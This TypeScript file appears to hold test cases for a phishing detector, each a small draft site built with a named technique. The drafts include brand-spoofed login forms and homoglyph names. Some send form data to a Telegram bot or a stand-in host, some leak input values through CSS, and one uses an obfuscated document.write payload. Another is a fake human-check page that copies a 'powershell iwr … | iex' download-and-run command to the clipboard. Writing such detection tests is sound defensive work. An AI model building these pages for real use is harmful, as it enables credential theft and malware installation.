import type { GivenDraft } from "./given-draft.ts"
import { site } from "./innocent-site.ts"
import { broken, program, sentByScript } from "./rule-cases.ts"

const login = (attributes = `action="/login" method="post"`) =>
  `<form ${attributes}><input type="email" name="email"><input type="password" name="password"><button>Log in</button></form>`
const password = `<input type="password" name="password">`
const ours = "Ferry tickets to Skerry"
const heading = "<h1>Ferry tickets</h1>"
const paypalLogo = `<img class="logo" src="logo.png" alt="PayPal">`
const send = (url: string) =>
  `<script>document.forms[0].onsubmit=function(e){e.preventDefault();fetch("${url}",{method:"POST",body:new FormData(this)})}</script>`
/** Two keys in turn: not to be read without running it. */
const ciphered = btoa(
  Array.from(`<h1>Log in</h1>${login()}`.repeat(3), (letter, n) =>
    String.fromCharCode(letter.charCodeAt(0) ^ (n % 2 === 0 ? 91 : 173)),
  ).join(""),
)

/** A family, and a draft that is flagged and is not without the family. */
export const familyCases: ReadonlyArray<readonly [family: string, draft: GivenDraft]> = [
  ["borrowed-name", site("signs in under a name", "PayPal: Log in", login())],
  [
    "borrowed-name",
    site(
      "asks for a card under a name",
      "Netflix - Update your payment details",
      `<form action="/pay"><input name="cardnumber"><input name="cvv"></form>`,
    ),
  ],
  [
    "borrowed-name",
    site(
      "makes its form",
      "PayPal: Log in",
      `<div id="a"></div><script>a.innerHTML='<form><input type="pass'+'word"></form>'</script>`,
    ),
  ],
  [
    "borrowed-name",
    site(
      "masks a text field",
      "PayPal",
      `<style>.x{-webkit-text-security:disc}</style><form action="/a"><input class="x" name="x"></form>`,
    ),
  ],
  ["disguised-name", site("writes a name in other letters", "Ferry: Раураl", `<h1>Раураl</h1>${login()}`)],
  [
    "wallet-phrase",
    site(
      "asks for a phrase",
      ours,
      `${heading}<form action="/a"><textarea name="t" placeholder="Your seed phrase"></textarea></form>`,
    ),
  ],
  [
    "exfiltration",
    site("sends to a chat", ours, `${heading}${login("")}${send("https://api.telegram.org/bot1:A/sendMessage")}`),
  ],
  [
    "base-address",
    site(
      "sends all elsewhere",
      ours,
      `<base href="https://gather.example/">${heading}${paypalLogo}${login(`action="in"`)}`,
    ),
  ],
  [
    "kit-action",
    site("uses a kit", "PayPal ferries", `<h2>Ferry tickets</h2>${paypalLogo}${login(`action="next.php"`)}`),
  ],
  [
    "style-log",
    site(
      "logs by style",
      ours,
      `<style>input[value^="a"]{background:url(https://gather.example/a)}</style>${heading}${login()}`,
    ),
  ],
  [
    "hot-links",
    site(
      "borrows an icon",
      "PayPal ferries",
      `<link rel="icon" href="https://www.paypalobjects.com/webstatic/icon/favicon.ico"><h2>Ferry tickets</h2>${login()}`,
    ),
  ],
  [
    "frames",
    site(
      "shows another site in full",
      "DHL Tracking",
      `<iframe src="https://gather.example/" style="position:fixed;inset:0;width:100%;height:100%"></iframe>`,
    ),
  ],
  [
    "redirects",
    site("leads on", "DHL Tracking", `<meta http-equiv="refresh" content="1;url=https://gather.example/">`),
  ],
  [
    "decoding",
    site(
      "runs what it decodes",
      ours,
      `<script>var s=atob("${ciphered}"),o="";for(var i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^(i%2?173:91));document.write(o)</script>`,
    ),
  ],
  [
    "made-pages",
    site(
      "carries a page",
      "PayPal ferries",
      `<h2>Ferry tickets</h2>${paypalLogo}<iframe src="data:text/html,${encodeURIComponent(login())}"></iframe>`,
    ),
  ],
  [
    "odd-places",
    {
      id: "asks in a drawing",
      files: {
        "index.html": `<title>${ours}</title>${heading}<embed src="a.svg">`,
        "a.svg": `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>${login()}</foreignObject></svg>`,
      },
    },
  ],
  [
    "lure",
    site("lures", "Ferry", `<h1>Herzlichen Glückwunsch!</h1><form action="/pay"><input name="cardnumber"></form>`),
  ],
  [
    "drawn-window",
    site(
      "draws a window",
      ours,
      `<h1>${ours}</h1>${paypalLogo}<div>🔒 https://www.paypal.com/signin</div>${sentByScript("https://gather.example/", password)}`,
    ),
  ],
  [
    "picture-page",
    site("is one picture", "Log in", `<style>body{background:url(img/paypal-login.png)}</style>${login()}`),
  ],
  [
    "gates",
    site(
      "asks only people",
      ours,
      `${heading}<div id="a"></div><script>if(!/bot|crawler/i.test(navigator.userAgent))a.innerHTML='${login()}'</script>`,
    ),
  ],
  [
    "card-data",
    site(
      "card and PIN under nothing",
      ours,
      `<h1>${ours}</h1>${sentByScript("https://gather.example/", `<input name="cardnumber"><input name="pin">`)}`,
    ),
  ],
  [
    "pressure",
    site("presses for a password", "Webmail", `<h1>Webmail</h1><p>Your mailbox is almost full.</p>${login()}`),
  ],
  [
    "command",
    site(
      "has a command run",
      "Are you human?",
      `<p>Press Windows + R, then Ctrl + V</p><script>document.onclick=()=>navigator.clipboard.writeText("powershell iwr https://gather.example/a | iex")</script>`,
    ),
  ],
  [
    "broken-words",
    site("has letters in words", ours, `<h1>${broken}</h1>${sentByScript("https://gather.example/", password)}`),
  ],
  ["under-name", site("saves a program", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
  [
    "lookalike-address",
    site(
      "sends to a host with a name in it",
      ours,
      `${heading}${sentByScript("https://paypal-check.example/in", password)}`,
    ),
  ],
  ["taking", site("takes by a form", ours, `${heading}${login(`action="https://gather.example/"`)}`)],
  [
    "institution",
    site(
      "is a house",
      "Skerry Bank",
      `<h1>Skerry Bank</h1>${login(`action="next.php"`)}<iframe hidden src="a.html"></iframe>`,
    ),
  ],
]
